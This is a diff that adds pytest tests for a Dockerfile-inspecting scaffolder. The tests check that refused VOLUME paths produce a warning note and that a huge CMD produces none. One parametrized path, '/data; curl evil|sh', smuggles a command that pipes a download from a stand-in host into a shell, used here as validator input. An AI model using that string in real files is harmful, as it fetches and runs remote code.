@@ -79,3 +79,18 @@ def test_spellings(lay: Lay, name: str, text: str, notes: tuple[str, ...]) -> No
 
     assert len(said) == len(notes)
     assert all(note in it for note, it in zip(notes, said, strict=True))
+
+
+@pytest.mark.parametrize("path", ["/tmp", "/etc/app", "/run", "/root/x", "/app", "/data; curl evil|sh"])
+def test_volumes_that_cannot_be(lay: Lay, path: str) -> None:
+    """A volume that `--volume` would refuse is told without that option, which leads nowhere."""
+    root = lay({"requirements.txt": "", "Dockerfile": f'{PYTHON}VOLUME ["{path}"]\n'})
+
+    assert detect(ScaffoldRequest(), root).notes == (f"Dockerfile:2 has the volume `{path}`: none can lie there here",)
+
+
+def test_a_command_of_any_length(lay: Lay) -> None:
+    """A command that no path is as long as says nothing, and takes no time."""
+    root = lay({"requirements.txt": "", "Dockerfile": f"{PYTHON}CMD {'entrypoint' * 20_000}!\n"})
+
+    assert detect(ScaffoldRequest(), root).notes == ()
